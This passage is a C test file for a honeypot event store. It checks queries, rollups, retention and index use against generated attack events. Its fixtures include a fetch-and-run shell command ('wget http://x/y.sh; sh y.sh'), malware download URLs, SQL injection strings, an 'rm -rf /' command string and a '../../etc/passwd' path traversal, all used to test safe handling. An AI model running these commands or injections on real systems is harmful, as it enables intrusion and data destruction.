/*
 * The event store, against a real engine: SQLite on a temp file by
 * default, or PostgreSQL when AP_PG_URL_BASE names a server (set by
 * tests/blackbox/pg.sh, which starts a throwaway one).  Every test gets a
 * fresh store (a new file, or a new database).
 *
 * Expected answers are computed here by brute force over the generated
 * events and compared with the store's answers.
 */
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <jansson.h>
#include <libpq-fe.h>

#include "ap/err.h"
#include "ap/event.h"
#include "ap/log.h"
#include "ap/util.h"
#include "harness.h"
#include "store.h"
#include "store_fixture.h"
#include "ap/common.h"

#define HOUR 3600000000LL

/* ---- a generated data set ----------------------------------------------- */

struct rec {
    long long ts;
    const char *type, *src_ip, *sensor, *honeypot, *country, *protocol,
        *username, *password, *command, *url, *sha256, *signature;
    int dst_port;
    long long asn;
    char session[24];
    json_t *ev;
};

/* Skewed pick: low indexes far more often (a heavy head). */
static unsigned
skew(unsigned n)
{
    unsigned a = fx_rnd(n), b = fx_rnd(n);
    return a < b ? a : b;
}

static const char *const ips[] = {"203.0.113.7", "198.51.100.23",
                                  "192.0.2.1", "2001:db8::5", "203.0.113.99",
                                  "198.51.100.200", "192.0.2.77", "10.1.2.3"};
static const char *const sensors[] = {"sensor-a", "sensor-b", "sensor-c"};
static const char *const honeypots[] = {"ssh", "telnet", "http", "smb"};
static const char *const countries[] = {"CN", "US", "RU", "BR", "NL"};
static const char *const protocols[] = {"ssh", "telnet", "http"};
static const int ports[] = {22, 23, 80, 445, 2222, 8080};
static const long long asns[] = {4134, 14061, 16276, 20473};
static const char *const users[] = {"root", "admin", "user", "o'brien",
                                    "\"quoted\""};
static const char *const passes[] = {"123456", "admin", "password", "root",
                                     "x' OR '1'='1"};
static const char *const cmds[] = {"uname -a", "cat /proc/cpuinfo",
                                   "wget http://x/y.sh; sh y.sh", "echo $HOME"};
static const char *const urls[] = {"http://198.51.100.1/bins/x86",
                                   "http://203.0.113.5/mirai.arm7"};
static const char *const shas[] = {
    "4a44dc15364204a80fe80e9039455cc1608281820fe2b24f1e5233ade6af1dd5",
    "ef2d127de37b942baad06145e54b0c619a1f22327b2ebbcfbec78f5564afe39d"};
static const char *const sigs[] = {"ET SCAN Potential SSH Scan",
                                   "ET POLICY curl User-Agent"};

#define NA(a) ((unsigned)AP_ARRAY_SIZE(a))

static void
gen(struct rec *r, size_t n, long long t0, long long span)
{
    static const char *const types[] = {"connect", "login", "login", "login",
                                        "command", "download", "alert",
                                        "disconnect"};
    size_t i;

    for (i = 0; i < n; i++) {
        struct rec *x = &r[i];
        enum ap_event_type t;

        memset(x, 0, sizeof(*x));
        x->ts = t0 + (long long)((unsigned long long)fx_rng % (unsigned long long)span);
        fx_rnd(2);
        x->type = types[fx_rnd(NA(types))];
        x->src_ip = ips[skew(NA(ips))];
        x->sensor = sensors[skew(NA(sensors))];
        x->honeypot = honeypots[fx_rnd(NA(honeypots))];
        x->country = countries[skew(NA(countries))];
        x->protocol = protocols[fx_rnd(NA(protocols))];
        x->dst_port = ports[skew(NA(ports))];
        x->asn = asns[fx_rnd(NA(asns))];
        snprintf(x->session, sizeof(x->session), "s%u", fx_rnd(40));
        t = (enum ap_event_type)ap_event_type_lookup(x->type);
        x->ev = ap_event_new(t, x->sensor, x->honeypot, x->ts);
        ASSERT(x->ev != NULL);
        ap_event_set_addr(x->ev, x->src_ip, 40000 + (int)fx_rnd(1000),
                          "192.0.2.254", x->dst_port);
        ap_event_set_str(x->ev, "session", x->session);
        ap_event_set_str(x->ev, "src_country", x->country);
        ap_event_set_str(x->ev, "protocol", x->protocol);
        ap_event_set_int(x->ev, "src_asn", x->asn);
        if (t == AP_EV_LOGIN) {
            x->username = users[skew(NA(users))];
            x->password = passes[skew(NA(passes))];
            ap_event_set_str(x->ev, "username", x->username);
            ap_event_set_str(x->ev, "password", x->password);
            ap_event_set_bool(x->ev, "success", fx_rnd(4) == 0);
        } else if (t == AP_EV_COMMAND) {
            x->command = cmds[skew(NA(cmds))];
            ap_event_set_str(x->ev, "command", x->command);
        } else if (t == AP_EV_DOWNLOAD) {
            x->url = urls[fx_rnd(NA(urls))];
            x->sha256 = shas[fx_rnd(NA(shas))];
            ap_event_set_str(x->ev, "url", x->url);
            ap_event_set_str(x->ev, "sha256", x->sha256);
            ap_event_set_int(x->ev, "size", 1234);
        } else if (t == AP_EV_ALERT) {
            x->signature = sigs[fx_rnd(NA(sigs))];
            ap_event_set_str(x->ev, "signature", x->signature);
        }
    }
}

static void
put_all(struct ap_store *st, struct rec *r, size_t n, size_t *inserted)
{
    json_t **evs = calloc(n, sizeof(*evs));
    size_t i;

    ASSERT(evs != NULL);
    for (i = 0; i < n; i++)
        evs[i] = r[i].ev;
    ASSERT_EQ(ap_store_put_events(st, evs, n, inserted), 0);
    free(evs);
}

static void
free_recs(struct rec *r, size_t n)
{
    size_t i;

    for (i = 0; i < n; i++)
        json_decref(r[i].ev);
    free(r);
}

static int
seq(const char *a, const char *b)
{
    return b == NULL || (a != NULL && strcmp(a, b) == 0);
}

static int
matches(const struct rec *x, const struct ap_filter *f)
{
    return (f->since_us == 0 || x->ts >= f->since_us) &&
           (f->until_us == 0 || x->ts < f->until_us) &&
           seq(x->sensor, f->sensor) && seq(x->honeypot, f->honeypot) &&
           seq(x->type, f->type) && seq(x->session, f->session) &&
           seq(x->src_ip, f->src_ip) && seq(x->country, f->src_country) &&
           seq(x->protocol, f->protocol) && seq(x->username, f->username) &&
           seq(x->password, f->password) && seq(x->command, f->command) &&
           seq(x->url, f->url) && seq(x->sha256, f->sha256) &&
           (f->dst_port == 0 || x->dst_port == f->dst_port) &&
           (f->src_asn == 0 || x->asn == f->src_asn);
}

static long long
expect_count(const struct rec *r, size_t n, const struct ap_filter *f)
{
    long long c = 0;
    size_t i;

    for (i = 0; i < n; i++)
        c += matches(&r[i], f);
    return c;
}

/* The value of dim in x as text ("" + NULL when absent). */
static const char *
dim_of(const struct rec *x, const char *dim, char *buf, size_t len)
{
    if (strcmp(dim, "src_ip") == 0) return x->src_ip;
    if (strcmp(dim, "honeypot") == 0) return x->honeypot;
    if (strcmp(dim, "sensor") == 0) return x->sensor;
    if (strcmp(dim, "src_country") == 0) return x->country;
    if (strcmp(dim, "protocol") == 0) return x->protocol;
    if (strcmp(dim, "username") == 0) return x->username;
    if (strcmp(dim, "password") == 0) return x->password;
    if (strcmp(dim, "command") == 0) return x->command;
    if (strcmp(dim, "url") == 0) return x->url;
    if (strcmp(dim, "sha256") == 0) return x->sha256;
    if (strcmp(dim, "signature") == 0) return x->signature;
    if (strcmp(dim, "type") == 0) return x->type;
    if (strcmp(dim, "dst_port") == 0) {
        snprintf(buf, len, "%d", x->dst_port);
        return buf;
    }
    if (strcmp(dim, "src_asn") == 0) {
        snprintf(buf, len, "%lld", x->asn);
        return buf;
    }
    if (strcmp(dim, "credential") == 0) {
        if (x->username == NULL)
            return NULL;
        snprintf(buf, len, "%s:%s", x->username, x->password);
        return buf;
    }
    return NULL;
}

/* Check ap_store_top(dim, f) against brute force: same value->count map,
 * sorted by count. */
static void
check_top(struct ap_store *st, const struct rec *r, size_t n,
          const char *dim, const struct ap_filter *f)
{
    json_t *got = NULL, *want = json_object(), *row;
    const char *v, *key;
    char buf[512], kbuf[64];
    long long prev = -1;
    size_t i;

    for (i = 0; i < n; i++) {
        if (!matches(&r[i], f) || (v = dim_of(&r[i], dim, buf, sizeof(buf))) == NULL)
            continue;
        json_object_set_new(want, v,
                            json_integer(json_integer_value(
                                             json_object_get(want, v)) + 1));
    }
    ASSERT_EQ(ap_store_top(st, dim, f, AP_STORE_MAX_LIMIT, &got), 0);
    if (json_array_size(got) != json_object_size(want))
        TH_FAIL("top %s: %zu values, want %zu", dim, json_array_size(got),
                json_object_size(want));
    json_array_foreach(got, i, row) {
        json_t *val = json_object_get(row, "value");
        long long c = json_integer_value(json_object_get(row, "count"));

        if (json_is_integer(val)) {
            snprintf(kbuf, sizeof(kbuf), "%lld",
                     (long long)json_integer_value(val));
            key = kbuf;
        } else {
            key = json_string_value(val);
        }
        ASSERT(key != NULL);
        if (json_integer_value(json_object_get(want, key)) != c)
            TH_FAIL("top %s: %s count %lld, want %lld", dim, key, c,
                    (long long)json_integer_value(json_object_get(want, key)));
        ASSERT(prev < 0 || c <= prev);
        prev = c;
    }
    json_decref(got);
    json_decref(want);
}

/* ---- tests -------------------------------------------------------------- */

#define NREC 3000

/* Fixed times, so edges of hours fall where the test wants them. */
#define T0 (1700000000000000LL / HOUR * HOUR)

TEST(insert_count_duplicates)
{
    struct ap_store *st = fx_fresh("t");
    struct rec *r = calloc(NREC, sizeof(*r));
    struct ap_store_stats s;
    struct ap_filter f;
    long long c;
    size_t ins;

    gen(r, NREC, T0, 48 * HOUR);
    put_all(st, r, NREC, &ins);
    ASSERT_EQ(ins, NREC);
    memset(&f, 0, sizeof(f));
    ASSERT_EQ(ap_store_count(st, &f, &c), 0);
    ASSERT_EQ(c, NREC);
    /* Resent: nothing new, nothing counted twice (rollups included). */
    put_all(st, r, NREC, &ins);
    ASSERT_EQ(ins, 0);
    put_all(st, r, 10, &ins);
    ASSERT_EQ(ins, 0);
    ASSERT_EQ(ap_store_count(st, &f, &c), 0);
    ASSERT_EQ(c, NREC);
    f.since_us = T0 + 5 * HOUR + 1234;
    f.until_us = T0 + 29 * HOUR + 999;
    ASSERT_EQ(ap_store_count(st, &f, &c), 0);
    ASSERT_EQ(c, expect_count(r, NREC, &f));
    ap_store_stats(st, &s);
    ASSERT_EQ(s.inserted, NREC);
    ASSERT_EQ(s.duplicates, NREC + 10);
    ap_store_close(st);
    free_recs(r, NREC);
}

TEST(every_filter)
{
    struct ap_store *st = fx_fresh("t");
    struct rec *r = calloc(NREC, sizeof(*r));
    struct ap_filter f;
    json_t *evs;
    long long c;
    size_t ins, k, i;

    gen(r, NREC, T0, 48 * HOUR);
    put_all(st, r, NREC, &ins);
    for (k = 0; k < 20; k++) {
        const struct rec *x = &r[k * 7 + 3];

        memset(&f, 0, sizeof(f));
        switch (k % 14) {
        case 0: f.sensor = x->sensor; break;
        case 1: f.honeypot = x->honeypot; break;
        case 2: f.type = x->type; break;
        case 3: f.session = x->session; break;
        case 4: f.src_ip = x->src_ip; break;
        case 5: f.src_country = x->country; break;
        case 6: f.protocol = x->protocol; break;
        case 7: f.username = "o'brien"; break;
        case 8: f.password = "x' OR '1'='1"; break;
        case 9: f.command = cmds[0]; break;
        case 10: f.url = urls[1]; break;
        case 11: f.sha256 = shas[0]; break;
        case 12: f.dst_port = x->dst_port; break;
        case 13: f.src_asn = x->asn; break;
        }
        if (k >= 14) {
            f.since_us = T0 + (long long)k * HOUR + 77;
            f.until_us = f.since_us + 11 * HOUR;
        }
        ASSERT_EQ(ap_store_count(st, &f, &c), 0);
        if (c != expect_count(r, NREC, &f))
            TH_FAIL("filter %zu: count %lld, want %lld", k, c,
                    expect_count(r, NREC, &f));
        ASSERT(c > 0);
        /* The events themselves: right ones, newest first. */
        ASSERT_EQ(ap_store_events(st, &f, 50, 0, 0, &evs), 0);
        ASSERT_EQ(json_array_size(evs), AP_MIN(c, 50));
        for (i = 1; i < json_array_size(evs); i++)
            ASSERT(ap_event_ts_us(json_array_get(evs, i)) <=
                   ap_event_ts_us(json_array_get(evs, i - 1)));
        json_decref(evs);
    }
    /* Paging: ascending, two pages, no overlap, in order. */
    memset(&f, 0, sizeof(f));
    f.src_ip = ips[0];
    {
        json_t *a, *b;
        ASSERT_EQ(ap_store_events(st, &f, 10, 0, 1, &a), 0);
        ASSERT_EQ(ap_store_events(st, &f, 10, 10, 1, &b), 0);
        ASSERT_EQ(json_array_size(a), 10);
        ASSERT_EQ(json_array_size(b), 10);
        ASSERT(ap_event_ts_us(json_array_get(a, 9)) <=
               ap_event_ts_us(json_array_get(b, 0)));
        ASSERT(!json_equal(json_array_get(a, 9), json_array_get(b, 0)));
        json_decref(a);
        json_decref(b);
    }
    ASSERT_EQ(ap_store_events(st, &f, 10, AP_STORE_MAX_OFFSET + 1, 0, &evs),
              AP_EINVAL);
    ASSERT_EQ(ap_store_events(st, &f, 5000, 0, 0, &evs), 0);
    ASSERT(json_array_size(evs) <= AP_STORE_MAX_LIMIT);
    json_decref(evs);
    ap_store_close(st);
    free_recs(r, NREC);
}

TEST(top_every_dimension)
{
    static const char *const dims[] = {
        "src_ip", "dst_port", "honeypot", "sensor", "src_country", "src_asn",
        "protocol", "username", "password", "credential", "command", "url",
        "sha256", "signature", "type"};
    struct ap_store *st = fx_fresh("t");
    struct rec *r = calloc(NREC, sizeof(*r));
    struct ap_filter f;
    json_t *top;
    size_t ins, i;

    gen(r, NREC, T0, 48 * HOUR);
    put_all(st, r, NREC, &ins);
    for (i = 0; i < AP_ARRAY_SIZE(dims); i++) {
        memset(&f, 0, sizeof(f));
        check_top(st, r, NREC, dims[i], &f); /* all time: rollup */
        f.since_us = T0 + 3 * HOUR + 59 * 60000000LL; /* ragged edges */
        f.until_us = T0 + 27 * HOUR + 1;
        check_top(st, r, NREC, dims[i], &f); /* rollup + edges */
        f.since_us = T0 + 3 * HOUR + 5;
        f.until_us = T0 + 3 * HOUR + 50 * 60000000LL; /* inside an hour */
        check_top(st, r, NREC, dims[i], &f);
        f.honeypot = "ssh"; /* not time-only: the events index */
        f.since_us = T0 + HOUR / 2;
        f.until_us = 0;
        check_top(st, r, NREC, dims[i], &f);
    }
    memset(&f, 0, sizeof(f));
    ASSERT_EQ(ap_store_top(st, "src_ip", &f, 3, &top), 0);
    ASSERT_EQ(json_array_size(top), 3);
    ASSERT_STR_EQ(json_string_value(json_object_get(json_array_get(top, 0),
                                                    "value")),
                  ips[0]);
    json_decref(top);
    ASSERT_EQ(ap_store_top(st, "credential", &f, 1, &top), 0);
    ASSERT_STR_EQ(json_string_value(json_object_get(json_array_get(top, 0),
                                                    "username")),
                  users[0]);
    json_decref(top);
    /* A window with nothing in it: an empty list, not an error. */
    f.since_us = T0 + 1000 * HOUR;
    ASSERT_EQ(ap_store_top(st, "src_ip", &f, 3, &top), 0);
    ASSERT_EQ(json_array_size(top), 0);
    json_decref(top);
    f.since_us = 0;
    ASSERT_EQ(ap_store_top(st, "nonsense", &f, 3, &top), AP_EINVAL);
    ASSERT_EQ(ap_store_top(st, "src_ip; DROP TABLE events", &f, 3, &top),
              AP_EINVAL);
    ap_store_close(st);
    free_recs(r, NREC);
}

TEST(timeseries)
{
    struct ap_store *st = fx_fresh("t");
    struct rec *r = calloc(NREC, sizeof(*r));
    long long buckets[] = {HOUR, 2 * HOUR, 15 * 60000000LL};
    struct ap_filter f;
    json_t *ts, *b;
    size_t ins, i, k, j;

    gen(r, NREC, T0, 48 * HOUR);
    put_all(st, r, NREC, &ins);
    for (k = 0; k < AP_ARRAY_SIZE(buckets); k++) {
        for (j = 0; j < 2; j++) {
            memset(&f, 0, sizeof(f));
            f.since_us = T0 + 2 * HOUR + 17 * 60000000LL;
            f.until_us = T0 + 30 * HOUR + 3;
            if (j == 1)
                f.sensor = sensors[0];
            ASSERT_EQ(ap_store_timeseries(st, &f, buckets[k], &ts), 0);
            ASSERT(json_array_size(ts) > 0);
            json_array_foreach(ts, i, b) {
                struct ap_filter g = f;
                int64_t t0;

                ASSERT_EQ(ap_time_parse_iso(json_string_value(
                                                json_object_get(b, "t")),
                                            &t0),
                          0);
                g.since_us = AP_MAX(t0, f.since_us);
                g.until_us = AP_MIN(t0 + buckets[k], f.until_us);
                if (json_integer_value(json_object_get(b, "count")) !=
                    expect_count(r, NREC, &g))
                    TH_FAIL("bucket %zu of %lld: %lld, want %lld", i,
                            buckets[k],
                            (long long)json_integer_value(
                                json_object_get(b, "count")),
                            expect_count(r, NREC, &g));
            }
            json_decref(ts);
        }
    }
    memset(&f, 0, sizeof(f));
    f.since_us = T0;
    f.until_us = T0 + 365LL * 24 * HOUR;
    ASSERT_EQ(ap_store_timeseries(st, &f, 60 * 1000000LL, &ts), AP_ETOOBIG);
    ap_store_close(st);
    free_recs(r, NREC);
}

TEST(profile_sessions_files)
{
    struct ap_store *st = fx_fresh("t");
    struct rec *r = calloc(NREC, sizeof(*r));
    struct ap_filter f;
    json_t *p, *s, *tl, *files, *cr;
    long long first = -1, last = -1, cnt = 0;
    size_t ins, i;
    char sess[24];
    const char *sensor = NULL;

    gen(r, NREC, T0, 48 * HOUR);
    put_all(st, r, NREC, &ins);
    for (i = 0; i < NREC; i++)
        if (strcmp(r[i].src_ip, ips[2]) == 0) {
            cnt++;
            if (first < 0 || r[i].ts < first)
                first = r[i].ts;
            if (r[i].ts > last)
                last = r[i].ts;
        }
    ASSERT_EQ(ap_store_profile(st, ips[2], &p), 0);
    ASSERT_EQ(json_integer_value(json_object_get(p, "events")), cnt);
    {
        int64_t a, b;
        ap_time_parse_iso(json_string_value(json_object_get(p, "first_seen")),
                          &a);
        ap_time_parse_iso(json_string_value(json_object_get(p, "last_seen")),
                          &b);
        ASSERT_EQ(a, first);
        ASSERT_EQ(b, last);
    }
    ASSERT(json_array_size(json_object_get(p, "sensors")) > 0);
    ASSERT(json_array_size(json_object_get(p, "ports")) > 0);
    ASSERT(json_array_size(json_object_get(p, "credentials")) > 0);
    ASSERT(json_array_size(json_object_get(p, "commands")) > 0);
    ASSERT(json_array_size(json_object_get(p, "downloads")) > 0);
    ASSERT(json_string_value(json_object_get(p, "src_country")) != NULL);
    json_decref(p);
    ASSERT_EQ(ap_store_profile(st, "192.0.2.200", &p), 0);
    ASSERT_EQ(json_integer_value(json_object_get(p, "events")), 0);
    json_decref(p);

    /* One session's timeline: exactly its events, oldest first. */
    snprintf(sess, sizeof(sess), "%s", r[0].session);
    sensor = r[0].sensor;
    ASSERT_EQ(ap_store_session(st, sensor, sess, &s), 0);
    tl = json_object_get(s, "timeline");
    cnt = 0;
    for (i = 0; i < NREC; i++)
        cnt += strcmp(r[i].session, sess) == 0 &&
               strcmp(r[i].sensor, sensor) == 0;
    ASSERT_EQ(json_array_size(tl), cnt);
    ASSERT_EQ(json_integer_value(json_object_get(s, "events")), cnt);
    for (i = 1; i < json_array_size(tl); i++)
        ASSERT(ap_event_ts_us(json_array_get(tl, i - 1)) <=
               ap_event_ts_us(json_array_get(tl, i)));
    json_decref(s);
    ASSERT_EQ(ap_store_session(st, sensor, "nope", &s), AP_ENOENT);

    memset(&f, 0, sizeof(f));
    f.src_ip = ips[0];
    ASSERT_EQ(ap_store_sessions(st, &f, 1000, 0, &s), 0);
    ASSERT(json_array_size(s) > 0);
    json_array_foreach(s, i, p)
        ASSERT_STR_EQ(json_string_value(json_object_get(p, "src_ip")) ? ips[0]
                                                                       : NULL,
                      ips[0]);
    json_decref(s);

    memset(&f, 0, sizeof(f));
    ASSERT_EQ(ap_store_files(st, &f, 10, 0, &files), 0);
    ASSERT_EQ(json_array_size(files), 2);
    ASSERT_EQ(ap_store_put_file(st, shas[0], 1234, "ELF", T0, "192.0.2.1",
                                NULL),
              0);
    ASSERT_EQ(ap_store_put_file(st, "../../etc/passwd", 1, NULL, T0, NULL,
                                NULL),
              AP_EINVAL);
    json_decref(files);
    f.sha256 = shas[0];
    ASSERT_EQ(ap_store_files(st, &f, 10, 0, &files), 0);
    ASSERT_EQ(json_array_size(files), 1);
    ASSERT_STR_EQ(json_string_value(json_object_get(json_array_get(files, 0),
                                                    "filetype")),
                  "ELF");
    json_decref(files);

    memset(&f, 0, sizeof(f));
    ASSERT_EQ(ap_store_credentials(st, &f, 5, &cr), 0);
    ASSERT(json_array_size(json_object_get(cr, "usernames")) > 0);
    ASSERT(json_array_size(json_object_get(cr, "passwords")) > 0);
    ASSERT(json_array_size(json_object_get(cr, "credentials")) > 0);
    json_decref(cr);
    ap_store_close(st);
    free_recs(r, NREC);
}

TEST(hostile_strings_round_trip)
{
    static const unsigned char bad[] = {'r', 'o', 0xff, 'o', 0xc0, 0x80,
                                        't', '\'', '"', '\\', '\n', 0x1b};
    struct ap_store *st = fx_fresh("t");
    struct ap_filter f;
    json_t *ev, *got, *evs[3];
    size_t ins, i;
    long long c;

    evs[0] = ap_event_new(AP_EV_LOGIN, "s'1", "ssh", T0 + 5);
    ap_event_set_addr(evs[0], "::ffff:192.0.2.9", 1, "192.0.2.254", 22);
    ap_event_set_bytes(evs[0], "username", bad, sizeof(bad));
    ap_event_set_str(evs[0], "password", "'; DROP TABLE events; --\t\\0");
    ap_event_set_bool(evs[0], "success", 0);
    evs[1] = ap_event_new(AP_EV_COMMAND, "s'1", "ssh", T0 + 6);
    ap_event_set_str(evs[1], "command",
                     "echo \"\xe2\x98\x83\" '\\u0000' $(id) `x` ; rm -rf /");
    evs[2] = ap_event_new(AP_EV_DATA, "s'1", "ssh", T0 + 7);
    ap_event_set_b64(evs[2], "data", "\0\0\xff", 3, 100);
    ap_event_set_int(evs[2], "length", 9007199254740993LL);
    ASSERT_EQ(ap_store_put_events(st, evs, 3, &ins), 0);
    ASSERT_EQ(ins, 3);
    memset(&f, 0, sizeof(f));
    f.sensor = "s'1";
    ASSERT_EQ(ap_store_events(st, &f, 10, 0, 1, &got), 0);
    ASSERT_EQ(json_array_size(got), 3);
    for (i = 0; i < 3; i++) {
        char *a = json_dumps(evs[i], JSON_COMPACT),
             *b = json_dumps(json_array_get(got, i), JSON_COMPACT);
        if (strcmp(a, b) != 0)
            TH_FAIL("round trip:\n  put %s\n  got %s", a, b);
        free(a);
        free(b);
    }
    json_decref(got);
    /* Filtering by the escaped value finds it; quotes are data. */
    f.sensor = NULL;
    f.username = json_string_value(json_object_get(evs[0], "username"));
    ASSERT_EQ(ap_store_count(st, &f, &c), 0);
    ASSERT_EQ(c, 1);
    f.username = NULL;
    f.password = "'; DROP TABLE events; --\t\\0";
    ASSERT_EQ(ap_store_count(st, &f, &c), 0);
    ASSERT_EQ(c, 1);
    f.password = NULL;
    f.src_ip = "192.0.2.9"; /* ::ffff: stripped by the event model */
    ASSERT_EQ(ap_store_count(st, &f, &c), 0);
    ASSERT_EQ(c, 1);
    memset(&f, 0, sizeof(f));
    ASSERT_EQ(ap_store_count(st, &f, &c), 0);
    ASSERT_EQ(c, 3);
    /* Events the store cannot index are rejected, not stored half. */
    ev = json_pack("{s:s}", "type", "login");
    ASSERT_EQ(ap_store_put_events(st, &ev, 1, &ins), 0);
    ASSERT_EQ(ins, 0);
    json_decref(ev);
    for (i = 0; i < 3; i++)
        json_decref(evs[i]);
    ap_store_close(st);
}

TEST(raw_payloads)
{
    static const unsigned char payload[] = {0, 1, 2, 0xff, '\'', 0, 'x'};
    struct ap_store *st = fx_fresh("t");
    struct ap_filter f;
    json_t *raw, *errs;
    unsigned char *big;
    size_t i;

    ASSERT_EQ(ap_store_put_raw(st, T0, "dionaea.capture", "id\xff", payload,
                               sizeof(payload), "not JSON"),
              0);
    ASSERT_EQ(ap_store_put_raw(st, T0 + 1, "dionaea.capture", "x", "", 0,
                               "empty"),
              0);
    big = malloc(100000);
    ASSERT(big != NULL);
    for (i = 0; i < 100000; i++)
        big[i] = (unsigned char)i;
    ASSERT_EQ(ap_store_put_raw(st, T0 + 2, "cowrie.sessions", "y", big,
                               100000, "too big"),
              0);
    free(big);
    memset(&f, 0, sizeof(f));
    ASSERT_EQ(ap_store_raw(st, "dionaea.capture", &f, 10, 0, &raw), 0);
    ASSERT_EQ(json_array_size(raw), 2);
    {
        json_t *o = json_array_get(raw, 1);
        ASSERT_STR_EQ(json_string_value(json_object_get(o, "payload_b64")),
                      "AAEC/ycAeA==");
        ASSERT_STR_EQ(json_string_value(json_object_get(o, "ident")),
                      "id\\xff");
        ASSERT_EQ(json_integer_value(json_object_get(o, "size")), 7);
    }
    json_decref(raw);
    ASSERT_EQ(ap_store_raw(st, NULL, &f, 10, 0, &raw), 0);
    ASSERT_EQ(json_array_size(raw), 3);
    ASSERT(json_is_true(json_object_get(json_array_get(raw, 0), "truncated")));
    ASSERT_EQ(json_integer_value(json_object_get(json_array_get(raw, 0),
                                                 "size")),
              100000);
    json_decref(raw);
    ASSERT_EQ(ap_store_raw_errors(st, &errs), 0);
    ASSERT_EQ(json_array_size(errs), 2);
    ASSERT_STR_EQ(json_string_value(json_object_get(json_array_get(errs, 0),
                                                    "channel")),
                  "dionaea.capture");
    ASSERT_EQ(json_integer_value(json_object_get(json_array_get(errs, 0),
                                                 "count")),
              2);
    json_decref(errs);
    ap_store_close(st);
}

/* Every query shape must be served by an index or the rollup. */
static void
assert_no_scan(struct ap_store *st, json_t *lines, const char *what)
{
    json_t *l;
    size_t i;
    const char *s;
    int has_plan = 0;

    json_array_foreach(lines, i, l) {
        s = json_string_value(l);
        if (getenv("AP_SHOW_PLANS") != NULL)
            printf("  %s: %s\n", what, s);
        if (strncmp(s, "SELECT", 6) == 0)
            continue;
        has_plan = 1;
        /* SQLite: "SCAN events" (a full table or full index scan);
         * PostgreSQL: "Seq Scan on events". */
        if ((strstr(s, "SCAN events") != NULL &&
             strstr(s, "SCAN events USING INDEX ev_") == NULL) ||
            strstr(s, "Seq Scan on events") != NULL ||
            strstr(s, "SCAN rollup") != NULL ||
            strstr(s, "Seq Scan on rollup") != NULL) {
            json_array_foreach(lines, i, l)
                printf("    %s\n", json_string_value(l));
            TH_FAIL("%s: %s scans a table (%s)", what,
                    ap_store_engine_name(st), s);
        }
    }
    ASSERT(has_plan);
    json_array_clear(lines);
}

TEST(query_plans_use_indexes)
{
    static const char *const dims[] = {
        "src_ip", "dst_port", "honeypot", "sensor", "src_country", "src_asn",
        "protocol", "username", "password", "credential", "command", "url",
        "sha256", "signature", "type"};
    struct ap_store *st = fx_fresh("t");
    struct rec *r = calloc(200, sizeof(*r));
    json_t *lines = json_array(), *out;
    struct ap_filter f;
    long long c;
    size_t ins, i, k;

    gen(r, 200, T0, 48 * HOUR);
    put_all(st, r, 200, &ins);
    ap_store_explain(st, lines);
    for (k = 0; k < 15; k++) {
        memset(&f, 0, sizeof(f));
        f.since_us = T0 + HOUR + 5;
        f.until_us = T0 + 20 * HOUR + 5;
        switch (k) {
        case 1: f.sensor = "x"; break;
        case 2: f.honeypot = "x"; break;
        case 3: f.type = "x"; break;
        case 4: f.session = "x"; break;
        case 5: f.src_ip = "x"; break;
        case 6: f.src_country = "x"; break;
        case 7: f.protocol = "x"; break;
        case 8: f.username = "x"; break;
        case 9: f.password = "x"; break;
        case 10: f.command = "x"; break;
        case 11: f.url = "x"; break;
        case 12: f.sha256 = "x"; break;
        case 13: f.dst_port = 22; break;
        case 14: f.src_asn = 7; break;
        }
        ap_store_count(st, &f, &c);
        assert_no_scan(st, lines, "count");
        ap_store_events(st, &f, 10, 0, 0, &out);
        json_decref(out);
        assert_no_scan(st, lines, "events");
        ap_store_timeseries(st, &f, HOUR, &out);
        json_decref(out);
        assert_no_scan(st, lines, "timeseries");
        if (k == 0) {
            for (i = 0; i < AP_ARRAY_SIZE(dims); i++) {
                ap_store_top(st, dims[i], &f, 10, &out);
                json_decref(out);
                assert_no_scan(st, lines, dims[i]);
            }
        }
    }
    memset(&f, 0, sizeof(f));
    f.src_ip = "x";
    ap_store_sessions(st, &f, 10, 0, &out);
    json_decref(out);
    assert_no_scan(st, lines, "sessions");
    ap_store_profile(st, "192.0.2.1", &out);
    json_decref(out);
    assert_no_scan(st, lines, "profile");
    ap_store_explain(st, NULL);
    json_decref(lines);
    ap_store_close(st);
    free_recs(r, 200);
}

/* ---- retention while inserting ----------------------------------------- */

struct writer {
    struct ap_store *st;
    long long t0, span;
    int n, batches, rc;
};

static void *
writer_main(void *arg)
{
    struct writer *w = arg;
    json_t *evs[100];
    size_t ins;
    int b, i;

    for (b = 0; b < w->batches && w->rc == 0; b++) {
        for (i = 0; i < 100; i++) {
            long long ts = w->t0 + (long long)(b * 100 + i) * w->span /
                                       (w->batches * 100);
            evs[i] = ap_event_new(AP_EV_CONNECT, "sensor-r", "ssh", ts);
            ap_event_set_addr(evs[i], "192.0.2.50", 1000 + i, NULL, 22);
        }
        w->rc = ap_store_put_events(w->st, evs, 100, &ins);
        for (i = 0; i < 100; i++)
            json_decref(evs[i]);
    }
    return NULL;
}

TEST(retention_by_age_while_inserting)
{
    struct ap_store *st = fx_fresh("t");
    struct ap_store_retention ret = {2, 0, 0, 200};
    struct writer w = {st, T0, 10 * 24 * HOUR, 0, 60, 0};
    long long now = T0 + 10 * 24 * HOUR, deleted, c, total = 0;
    struct ap_filter f;
    pthread_t t;
    json_t *top;
    int i;

    ASSERT_EQ(pthread_create(&t, NULL, writer_main, &w), 0);
    /* Retention runs while the writer inserts. */
    for (i = 0; i < 200; i++) {
        ASSERT_EQ(ap_store_retention_step(st, &ret, now, &deleted), 0);
        total += deleted;
    }
    pthread_join(t, NULL);
    ASSERT_EQ(w.rc, 0);
    do {
        ASSERT_EQ(ap_store_retention_step(st, &ret, now, &deleted), 0);
        total += deleted;
    } while (deleted > 0);
    memset(&f, 0, sizeof(f));
    f.until_us = (now - 2 * 24 * HOUR) / HOUR * HOUR;
    ASSERT_EQ(ap_store_count(st, &f, &c), 0);
    ASSERT_EQ(c, 0);
    memset(&f, 0, sizeof(f));
    ASSERT_EQ(ap_store_count(st, &f, &c), 0);
    ASSERT(c > 0);
    ASSERT_EQ(c + total, 6000);
    /* The rollup agrees with the rows that are left. */
    ASSERT_EQ(ap_store_top(st, "src_ip", &f, 10, &top), 0);
    ASSERT_EQ(json_integer_value(json_object_get(json_array_get(top, 0),
                                                 "count")),
              c);
    json_decref(top);
    ap_store_close(st);
}

TEST(retention_by_size)
{
    struct ap_store *st = fx_fresh("t");
    struct ap_store_retention ret = {0, 0, 0, 500};
    struct writer w = {st, T0, 100 * HOUR, 0, 100, 0};
    long long before, after, deleted, c0, c1;
    struct ap_filter f;
    json_t *evs;
    int i;

    writer_main(&w);
